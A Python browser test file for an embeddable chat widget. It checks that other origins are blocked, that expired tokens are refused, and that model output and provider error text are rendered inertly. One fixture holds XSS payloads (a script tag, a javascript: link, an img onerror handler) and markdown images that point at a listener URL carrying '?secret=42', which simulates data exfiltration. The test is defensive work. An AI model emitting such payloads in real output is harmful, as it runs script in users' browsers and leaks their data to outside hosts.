"""The chat widget on another website, in a real browser: a host page on a second local origin
embeds it, signs its visitor in with a token, and chats; other origins get nothing; model
output cannot run script or load anything from elsewhere."""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import ChorusServer, free_port
from test_browser_chat import _send as _send_on_page
from test_browser_history import _login

from chorus.widget import make_token, snippet

SECRET = "browser-widget-secret-0123456789-0123456789-0123456789"


class _Site:
    """A plain static web server: the host site, and a listener that records every request."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.port = free_port()
        self.requests: list[str] = []
        site = self

        class Handler(http.server.SimpleHTTPRequestHandler):
            def __init__(self, *args: Any, **kwargs: Any) -> None:
                super().__init__(*args, directory=str(root), **kwargs)

            def log_message(self, format: str, *args: Any) -> None:
                site.requests.append(self.path)

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def page(self, name: str, html: str) -> None:
        (self.root / name).write_text(html, encoding="utf-8")

    def stop(self) -> None:
        self.httpd.shutdown()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[_Site]:
    host = _Site(tmp_path_factory.mktemp("host-site"))
    yield host
    host.stop()


@pytest.fixture(scope="module")
def chorus_server(tmp_path_factory: pytest.TempPathFactory, site: _Site) -> Iterator[ChorusServer]:
    srv = ChorusServer(tmp_path_factory.mktemp("widget-server"), env={
        "CHORUS_ALLOWED_ORIGINS": f"http://127.0.0.1:{site.port}",
        "CHORUS_WIDGET_SECRET": SECRET,
        "CHORUS_OFFLINE_TOKEN_DELAY": "0.01",
    })
    srv.start()
    yield srv
    srv.stop()


def _host_page(server: ChorusServer, token: str) -> str:
    html = snippet(server.url).replace("REPLACE_WITH_TOKEN_FROM_YOUR_BACKEND", token)
    return f"<!doctype html><html><head><title>Shop</title></head><body><h1>Our shop</h1>{html}</body></html>"


def _open_widget(page: Any) -> Any:
    page.locator("#chainlit-copilot-button").click(timeout=30_000)
    box = page.locator("#chainlit-copilot-chat #chat-input")
    box.wait_for(timeout=30_000)
    return box


def _send(page: Any, box: Any, text: str) -> None:
    box.fill(text)
    deadline = time.monotonic() + 60  # a loaded machine can take a while to connect the page
    while True:
        page.keyboard.press("Enter")
        try:
            page.wait_for_function(
                "() => !window.cl_shadowRootElement.querySelector('#chat-input').value", timeout=1_500)
            return
        except Exception:
            if time.monotonic() > deadline:
                raise
            box.click()


def test_a_host_site_embeds_the_widget_and_its_visitor_chats(
        browser: Any, site: _Site, chorus_server: ChorusServer, artifacts: Path) -> None:
    site.page("shop.html", _host_page(chorus_server, make_token("visitor-1", secret=SECRET, name="Ana")))
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(f"http://127.0.0.1:{site.port}/shop.html")
        box = _open_widget(page)
        _send(page, box, "What time is it in Tokyo?")
        widget = page.locator("#chainlit-copilot-chat")
        author = widget.locator(".chorus-author[data-author='assistant']").last
        author.wait_for(timeout=30_000)  # the agent's name, as on the page
        widget.get_by_text("Asia/Tokyo", exact=False).first.wait_for(timeout=30_000)
        page.screenshot(path=str(artifacts / "widget-chat.png"))
    finally:
        context.close()


def test_a_page_on_another_origin_cannot_connect_or_read(
        browser: Any, site: _Site, chorus_server: ChorusServer) -> None:
    # The same page, reached as http://localhost: an origin not on CHORUS_ALLOWED_ORIGINS.
    site.page("elsewhere.html", _host_page(chorus_server, make_token("visitor-2", secret=SECRET)))
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(f"http://localhost:{site.port}/elsewhere.html")
        page.wait_for_function("() => typeof window.mountChainlitWidget === 'function'", timeout=30_000)
        read = page.evaluate("""async (url) => {
            try { const r = await fetch(url + '/chorus/status', {credentials: 'include'});
                  return 'read ' + (await r.text()); }
            catch (e) { return 'blocked'; } }""", chorus_server.url)
        assert read == "blocked"
        signin = page.evaluate("""async (url) => {
            try { const r = await fetch(url + '/auth/jwt', {method: 'POST', credentials: 'include',
                    headers: {Authorization: 'Bearer x'}}); return 'status ' + r.status; }
            catch (e) { return 'blocked'; } }""", chorus_server.url)
        assert signin == "blocked"
        # The widget itself gets no session: its composer never appears, nothing is answered.
        page.locator("#chainlit-copilot-button").click(timeout=30_000)
        page.wait_for_timeout(3_000)
        assert page.locator("#chainlit-copilot-chat #chat-input").count() == 0
        assert not [c for c in context.cookies() if c["name"].startswith("access_token")]
    finally:
        context.close()


def test_an_expired_token_is_refused(browser: Any, site: _Site, chorus_server: ChorusServer) -> None:
    expired = make_token("visitor-3", secret=SECRET, ttl_s=60, now=time.time() - 600)
    site.page("expired.html", _host_page(chorus_server, expired))
    context = browser.new_context()
    page = context.new_page()
    try:
        responses: list[int] = []
        page.on("response", lambda r: responses.append(r.status) if r.url.endswith("/auth/jwt") else None)
        page.goto(f"http://127.0.0.1:{site.port}/expired.html")
        page.locator("#chainlit-copilot-button").click(timeout=30_000)
        page.wait_for_timeout(3_000)
        assert 401 in responses
        assert page.locator("#chainlit-copilot-chat #chat-input").count() == 0
    finally:
        context.close()


# -- model output that tries to run script or load something from elsewhere ----------------------


@pytest.fixture(scope="module")
def listener(tmp_path_factory: pytest.TempPathFactory) -> Iterator[_Site]:
    """Where the malicious output's images point: any request it gets is a leak."""
    spy = _Site(tmp_path_factory.mktemp("listener"))
    yield spy
    spy.stop()


def _malicious(listener: _Site) -> str:
    leak = f"http://127.0.0.1:{listener.port}"
    return (
        "Here you go. <script>window.__pwned = 'script'</script> "
        "[click me](javascript:window.__pwned='link') "
        "<img src=x onerror=\"window.__pwned='img'\"> "
        f"![a leak]({leak}/leak.png?secret=42) "
        f"<img src=\"{leak}/raw.png\"> "
        f"![ref leak][r]\n\n[r]: {leak}/ref.png\n\nAll done."
    )


@pytest.fixture(scope="module")
def fake_model() -> Iterator[Any]:
    from fake_openai import FakeOpenAI

    with FakeOpenAI() as server:
        yield server


@pytest.fixture(scope="module")
def model_server(tmp_path_factory: pytest.TempPathFactory, site: _Site, fake_model: Any) -> Iterator[ChorusServer]:
    import subprocess
    import sys

    workdir = tmp_path_factory.mktemp("malicious")
    agents = workdir / "agents"
    agents.mkdir()
    (agents / "solo.yaml").write_text("name: solo\ntype: round_robin\nmembers: [assistant]\ndefault: true\n")
    srv = ChorusServer(workdir, env={
        "CHORUS_ALLOWED_ORIGINS": f"http://127.0.0.1:{site.port}",
        "CHORUS_WIDGET_SECRET": SECRET,
        "CHORUS_AGENTS_DIR": str(agents),
        "CHORUS_MODEL": "openai/fake-model",
        "CHORUS_MODEL_API_BASE": fake_model.url,
        "CHORUS_MODEL_API_KEY": "sk-test",
        "CHORUS_MEMORY": "false",
    })
    added = subprocess.run([sys.executable, "-m", "chorus.cli", "users", "add", "pat", "--password-stdin"],
                           input="pat-password\n", capture_output=True, text=True, env=srv.env,
                           cwd=srv.workdir, timeout=120)
    assert added.returncode == 0, added.stderr
    srv.start()
    yield srv
    srv.stop()


def _assert_harmless(page: Any, listener: _Site, scope: Any) -> None:
    scope.get_by_text("All done.", exact=False).first.wait_for(timeout=30_000)
    page.wait_for_timeout(1_500)
    assert page.evaluate("window.__pwned === undefined")
    link = scope.get_by_text("click me")
    if link.count():
        link.first.click()
        page.wait_for_timeout(500)
        assert page.evaluate("window.__pwned === undefined")
    assert listener.requests == [], listener.requests  # nothing was fetched from elsewhere
    # The text is still there for the user to read, as text.
    assert "<script>" in scope.inner_text() or "window.__pwned" in scope.inner_text()


def test_model_output_runs_nothing_and_loads_nothing_on_the_page(
        browser: Any, listener: _Site, fake_model: Any, model_server: ChorusServer, artifacts: Path) -> None:
    fake_model.queue_text(_malicious(listener))
    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        _login(page, model_server, "pat", "pat-password")
        _send_on_page(page, "Show me something")
        _assert_harmless(page, listener, page.locator("body"))
        assert dialogs == []
        page.screenshot(path=str(artifacts / "page-malicious-output.png"))
    finally:
        context.close()


def test_model_output_runs_nothing_and_loads_nothing_in_the_widget(
        browser: Any, site: _Site, listener: _Site, fake_model: Any, model_server: ChorusServer,
        artifacts: Path) -> None:
    fake_model.queue_text(_malicious(listener))
    site.page("malicious.html", _host_page(model_server, make_token("visitor-4", secret=SECRET)))
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(f"http://127.0.0.1:{site.port}/malicious.html")
        box = _open_widget(page)
        _send(page, box, "Show me something")
        _assert_harmless(page, listener, page.locator("#chainlit-copilot-chat"))
        page.screenshot(path=str(artifacts / "widget-malicious-output.png"))
    finally:
        context.close()


def test_a_providers_error_text_loads_nothing_in_the_widget(
        browser: Any, site: _Site, listener: _Site, fake_model: Any, model_server: ChorusServer) -> None:
    """Text from outside (here a provider's error, quoted in the notice that the offline model
    answers instead) is neutralised like model output: its markdown image is shown as text."""
    leak = f"http://127.0.0.1:{listener.port}"
    for _ in range(6):  # every attempt (retries included) fails with it
        fake_model.queue_error(401, f"key refused ![status]({leak}/provider-error.png?secret=42) errmarker")
    site.page("provider-error.html", _host_page(model_server, make_token("visitor-5", secret=SECRET)))
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(f"http://127.0.0.1:{site.port}/provider-error.html")
        box = _open_widget(page)
        _send(page, box, "Hello there")
        chat = page.locator("#chainlit-copilot-chat")
        chat.get_by_text("errmarker", exact=False).first.wait_for(timeout=30_000)
        page.wait_for_timeout(1_500)
        assert listener.requests == [], listener.requests
        assert "provider-error.png" in chat.inner_text()  # still there to read, as text
    finally:
        context.close()
        fake_model.reset()
